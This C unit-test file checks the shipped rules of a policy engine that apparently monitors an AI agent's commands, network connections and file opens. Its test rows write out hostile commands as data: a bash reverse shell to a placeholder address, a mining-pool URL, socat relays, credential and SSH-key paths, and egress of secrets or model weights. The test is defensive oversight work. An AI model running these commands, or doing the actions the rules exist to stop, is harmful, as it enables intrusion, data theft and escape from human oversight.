/* SPDX-License-Identifier: Apache-2.0 */
#include "tests/support/test.h"

#include <string.h>

#include "monitor/policy/decide.h"
#include "monitor/policy/policy.h"
#include "monitor/policy/policy_state.h"

#include <shipped_policies.h>

/*
 * The families that ship, all loaded: what ordinary work does passes without any rule, and the
 * forms that a rule is dodged by do not get by. SHIPPED is their folder.
 */

#define MAX_WORDS 8

struct exec_row {
	const char *rule; /* that must decide; NULL: none */
	const char *path, *provenance, *exe;
	const char *argv[MAX_WORDS];
};

static const struct exec_row execs[] = {
	/* compilers and builds */
	{NULL,
	 "/usr/bin/x86_64-linux-gnu-gcc-12",
	 "image",
	 "/usr/bin/make",
	 {"cc", "-O2", "-c", "ssh.c", "-o", "ssh.o"}},
	{NULL, "/usr/bin/make", "image", "/usr/bin/dash", {"make", "-j8", "docker"}},
	{NULL, "/usr/bin/cmake", "image", "/usr/bin/bash", {"cmake", "--build", "build"}},
	{NULL, "/w/build/tests/test_kubectl", "workspace", "/usr/bin/ctest", {"./test_kubectl"}},
	{NULL, "/w/configure", "workspace", "/usr/bin/bash", {"./configure", "--with-tor"}},
	{NULL, "/w/batch", "workspace", "/usr/bin/bash", {"./batch", "--size", "32"}},
	/* package managers, interpreters */
	{NULL, "/usr/bin/python3.11", "image", "/usr/bin/bash", {"pip", "install", "-e", "."}},
	{NULL,
	 "/usr/bin/python3.11",
	 "image",
	 "/usr/bin/bash",
	 {"python3", "-m", "http.server", "--bind", "127.0.0.1"}},
	{NULL, "/usr/bin/node", "image", "/usr/bin/bash", {"npm", "ci"}},
	{NULL, "/usr/bin/cargo", "image", "/usr/bin/bash", {"cargo", "test"}},
	{NULL, "/usr/bin/apt-get", "image", "/usr/bin/bash", {"apt-get", "download", "tor"}},
	{NULL, "/w/.venv/bin/pytest", "workspace", "/usr/bin/bash", {"pytest", "-k", "ssh"}},
	{NULL, "/w/bin/goose", "workspace", "/usr/bin/bash", {"goose", "up"}},
	/* git and text tools, with dangerous words as data */
	{NULL, "/usr/bin/git", "image", "/usr/bin/bash", {"git", "commit", "-m", "drop sudo"}},
	{NULL, "/usr/bin/git", "image", "/usr/bin/bash", {"git", "log", "--", "crontab"}},
	{NULL,
	 "/usr/bin/grep",
	 "image",
	 "/usr/bin/bash",
	 {"grep", "-rn", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "."}},
	{NULL, "/usr/bin/grep", "image", "/usr/bin/xargs", {"grep", "stratum+tcp://", "notes"}},
	{NULL, "/usr/bin/ssh-keygen", "image", "/usr/bin/bash", {"ssh-keygen", "-t", "ed25519"}},
	{NULL, "/usr/bin/find", "image", "/usr/bin/bash", {"find", "/", "-name", "docker.sock"}},
	{NULL, "/usr/bin/dash", "image", "/usr/bin/make", {"sh", "-c", "cd src && make test"}},
	{NULL,
	 "/usr/bin/bash",
	 "image",
	 "/usr/bin/python3.11",
	 {"bash", "-c", "curl -s http://127.0.0.1:8000/ | head"}},
	{NULL,
	 "/usr/bin/bash",
	 "image",
	 "/usr/bin/dash",
	 {"bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/80"}},
	{NULL, "/usr/bin/timeout", "image", "/usr/bin/bash", {"timeout", "60", "pytest"}},
	{NULL, "/usr/bin/xargs", "image", "/usr/bin/bash", {"xargs", "-0", "rm", "-f"}},
	{NULL, "/usr/bin/tar", "image", "/usr/bin/bash", {"tar", "-czf", "/w/out.tgz", "src"}},
	/* the same danger under other names */
	{"sr.remote-shell", "/usr/bin/ssh", "image", "/usr/bin/bash", {"ssh", "h"}},
	{"sr.remote-shell", "/usr/bin/ssh", "image", "/usr/bin/python3.11", {"true", "h"}},
	{"sr.remote-shell", "/usr/bin/env", "image", "/usr/bin/bash", {"env", "-S", "scp a h:"}},
	/* what a shell starts is asked about itself */
	{NULL,
	 "/usr/bin/bash",
	 "image",
	 "/usr/bin/dash",
	 {"bash", "-euo", "pipefail", "-c", "sftp h"}},
	{"sr.remote-shell",
	 "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
	 "image",
	 "/usr/bin/bash",
	 {"true", "--argv0", "x", "/usr/bin/ssh", "h"}},
	{"ra.provision-compute",
	 "/usr/bin/nice",
	 "image",
	 "/usr/bin/bash",
	 {"nice", "-n", "19", "terraform", "apply"}},
	{"ra.other-user", "/usr/bin/sudo", "image", "/usr/bin/bash", {"ls"}},
	{"ra.mining-protocol",
	 "/w/m",
	 "workspace",
	 "/usr/bin/bash",
	 {"./m", "-o", "stratum+tcp://pool:3333"}},
	{"ex.reverse-shell", "/usr/bin/dash", "image", "/usr/bin/socat", {"sh"}},
	{"ex.reverse-shell",
	 "/usr/bin/bash",
	 "image",
	 "/usr/bin/dash",
	 {"bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"}},
	{"ex.relay-address", "/usr/bin/socat", "image", "/usr/bin/bash", {"cat", "-", "tcp:h:1"}},
	{"sr.start-agent", "/usr/bin/node", "image", "/usr/bin/bash", {"claude", "-p", "x"}},
	{"sr.schedule-later", "/usr/bin/at", "image", "/usr/bin/bash", {"at", "now"}},
	{"sr.nameless-program", "/memfd:x (deleted)", "memfd", "/usr/bin/python3.11", {"x"}},
};

static struct policy *shipped(void)
{
	const char *path = SHIPPED;
	struct policy *policy = NULL;
	struct error err = {0};

	if (policy_load(&path, 1, &policy, &err) < 0)
		fail_msg("%s", err.text);
	return policy;
}

static void check(const struct policy *policy, const struct action *action, uint64_t labels,
		  const char *rule, const char *what)
{
	struct policy_state *session = policy_state_new(policy);
	struct decision d;

	policy_state_add_labels(session, labels);
	policy_decide(policy, session, action, &d);
	if (rule ? !d.rule || strcmp(d.rule->id, rule) != 0
		 : d.verdict != VERDICT_ALLOW || d.matched)
		fail_msg("%s: %s by %s, not by %s", what, verdict_name(d.verdict),
			 d.rule ? d.rule->id : "default", rule ? rule : "none");
	(void)policy_state_free(session);
}

static void test_programs(void **state)
{
	struct policy *policy = shipped();

	(void)state;
	for (size_t i = 0; i < COUNT(execs); i++) {
		const struct exec_row *row = &execs[i];
		const char *slash = strrchr(row->path, '/');
		struct str items[MAX_WORDS];
		struct action action = {.kind = ACTION_EXEC,
					.path = str_of(row->path),
					.name = str_of(slash + 1),
					.exe = str_of(row->exe),
					.provenance = str_of(row->provenance),
					.cwd = STR("/w"),
					.argv = {items, 0}};

		while (action.argv.count < MAX_WORDS && row->argv[action.argv.count]) {
			items[action.argv.count] = str_of(row->argv[action.argv.count]);
			action.argv.count++;
		}
		check(policy, &action, 0, row->rule, row->argv[0]);
	}
	(void)policy_free(policy);
}

static const struct {
	const char *rule, *family, *address, *path;
	int64_t port;
	const char *label;
} connections[] = {
	/* test servers, name service switch, the session's own daemons */
	{NULL, "inet", "127.0.0.1", "", 3000, NULL},
	{"ra.mining-local", "inet", "127.0.0.1", "", 3333, NULL},
	{"ex.name-lookup", "inet6", "::1", "", 53, NULL},
	{"ex.name-lookup", "inet", "127.0.0.53", "", 53, NULL},
	{NULL, "inet", "127.0.0.1", "", 8080, "secret"},
	{NULL, "netlink", "", "", 0, NULL},
	{NULL, "unix", "", "/var/run/nscd/socket", 0, NULL},
	{NULL, "unix", "", "/tmp/pytest-1/server.sock", 0, "secret"},
	{NULL, "unix", "", "/tmp/.s.PGSQL.5432", 0, "weights"},
	{NULL, "unix", "", "@/tmp/dbus-x", 0, NULL},
	{"ex.own-agent-socket", "unix", "", "/home/agent/.gnupg/S.gpg-agent", 0, NULL},
	{"ex.undeclared-egress", "inet", "93.184.216.34", "", 443, NULL},
	{"ex.secret-then-egress", "inet", "93.184.216.34", "", 443, "secret"},
	{"ex.canary-then-egress", "inet", "93.184.216.34", "", 443, "canary"},
	{"sr.weights-to-network", "inet", "93.184.216.34", "", 443, "weights"},
	{"ra.metadata-endpoint", "inet", "169.254.169.254", "", 80, NULL},
	{"ra.metadata-endpoint", "inet6", "fd00:ec2::254", "", 80, NULL},
	{"ra.metadata-endpoint", "inet6", "::ffff:169.254.169.254", "", 80, NULL},
	{"ex.foreign-resolver", "inet", "8.8.8.8", "", 53, NULL},
	{"ra.container-socket", "unix", "", "/mnt/docker.sock", 0, NULL},
	{"ex.agent-socket", "unix", "", "/tmp/ssh-x/agent.1", 0, NULL},
	{"ex.undeclared-egress", "other", "", "", 0, NULL}, /* a family that nobody knows */
};

static void test_connections(void **state)
{
	struct policy *policy = shipped();

	(void)state;
	for (size_t i = 0; i < COUNT(connections); i++) {
		const char *family = connections[i].family;
		const struct str address = str_of(connections[i].address);
		const bool local = strncmp(family, "inet", 4) != 0 && strcmp(family, "other") != 0;
		const struct action action = {
			.kind = ACTION_CONNECT,
			.pid = 7,
			.family = str_of(family),
			.protocol = STR("tcp"),
			.address = address,
			.host = address,
			.path = str_of(connections[i].path),
			.port = connections[i].port,
			.loopback = local || str_eq(address, STR("::1")) ||
				    (address.len > 4 && !memcmp(address.at, "127.", 4))};
		const int label = connections[i].label
					  ? policy_label_index(policy, connections[i].label)
					  : -1;

		assert_true(label >= 0 || !connections[i].label);
		check(policy, &action, label >= 0 ? UINT64_C(1) << label : 0, connections[i].rule,
		      connections[i].path[0] ? connections[i].path : connections[i].address);
	}
	(void)policy_free(policy);
}

/* What a host that the policy trusts is not trusted with. */
static const char trusting[] =
	"{\"policy\": \"t\", \"version\": 1, \"rules\": [], \"lists\": {"
	"\"trusted_hosts\": [\"**.example\", \"*.*.amazonaws.com\", \"compute.googleapis.com\", "
	"\"upload.pypi.org\"], \"ssh_destinations\": [\"git@git.example\", \"hub.example\"]}}";

static const struct {
	const char *rule, *host;
	int64_t port;
} trusted[] = {
	{NULL, "web.example", 443},
	{"sr.remote-port", "web.example", 22},
	{"sr.remote-port", "x.git.example", 22},
	{"sr.remote-declared", "git.example", 22},
	{"sr.remote-declared", "hub.example", 22},
	{"ra.compute-host", "ec2.eu-west-1.amazonaws.com", 443}, /* a pattern names no host */
	{"ra.compute-declared", "compute.googleapis.com", 443},
	{"ex.upload-host", "upload.pypi.org", 443},
};

static void test_trusted_hosts(void **state)
{
	const char *path = SHIPPED;
	struct policy *policy = NULL;
	struct error err = {0};

	(void)state;
	if (policy_load_with(&(struct policy_files){.paths = &path, .count = 1, .more = trusting},
			     &policy, &err) < 0)
		fail_msg("%s", err.text);
	for (size_t i = 0; i < COUNT(trusted); i++) {
		const struct action action = {.kind = ACTION_CONNECT,
					      .family = STR("inet"),
					      .protocol = STR("tcp"),
					      .address = STR("198.18.1.7"),
					      .host = str_of(trusted[i].host),
					      .port = trusted[i].port};

		check(policy, &action, 0, trusted[i].rule, trusted[i].host);
	}
	(void)policy_free(policy);
}

static const struct {
	const char *rule, *path;
	bool write;
	int64_t result;
} opens[] = {
	{NULL, "/w/src/parser.c", false, 3},
	{NULL, "/w/.git/config.lock", true, 3}, /* as git writes settings, then renames */
	{"pe.repository-config", "/w/.git/config", true, 3},
	{NULL, "/usr/lib/python3/dist-packages/aws/credentials.py", false, 3},
	{NULL, "/home/agent/.ssh/known_hosts", false, 3},
	{NULL, "/home/agent/.ssh/id_ed25519.pub", false, 3},
	{NULL, "/home/agent/.ssh/id_ed25519", true, 3}, /* ssh-keygen writes one */
	{NULL, "/home/agent/.netrc", false, -2},	/* looked for, not there */
	{NULL, "/proc/self/status", false, 3},
	{NULL, "/etc/ssl/certs/ca-certificates.crt", false, 3},
	{"ra.private-file", "/home/agent/.ssh/id_ed25519", false, 3},
	{"ra.private-file", "/w/.git-credentials", false, 3},
	{"ra.private-file", "/home/agent/.config/gcloud/a/b.db", false, 3},
};

static void test_files(void **state)
{
	struct policy *policy = shipped();

	(void)state;
	for (size_t i = 0; i < COUNT(opens); i++) {
		const struct action action = {.kind = ACTION_FILE_OPEN,
					      .pid = 7,
					      .path = str_of(opens[i].path),
					      .write = opens[i].write,
					      .result = opens[i].result};

		check(policy, &action, 0, opens[i].rule, opens[i].path);
	}
	(void)policy_free(policy);
}

/* A sentence, which the agent can act on if it is refused. */
static void test_every_rule_is_told_well(void **state)
{
	struct policy *policy = shipped();

	(void)state;
	for (size_t i = 0; i < policy_rule_count(policy); i++) {
		const struct rule_info *rule = policy_rule(policy, i);
		const size_t len = strlen(rule->because);

		const size_t least = policy_rule_verdict(policy, i) >= VERDICT_ASK ? 40 : 20;

		if (len < least || rule->because[len - 1] != '.')
			fail_msg("%s: %s", rule->id, rule->because);
	}
	(void)policy_free(policy);
}

/* Else each session would run all examples once more. */
static void test_build_has_run_the_examples(void **state)
{
	struct policy *policy = shipped();

	(void)state;
	assert_string_equal(policy_hash(policy), SHIPPED_POLICIES_HASH);
	(void)policy_free(policy);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_build_has_run_the_examples),
		cmocka_unit_test(test_programs),
		cmocka_unit_test(test_connections),
		cmocka_unit_test(test_trusted_hosts),
		cmocka_unit_test(test_files),
		cmocka_unit_test(test_every_rule_is_told_well),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
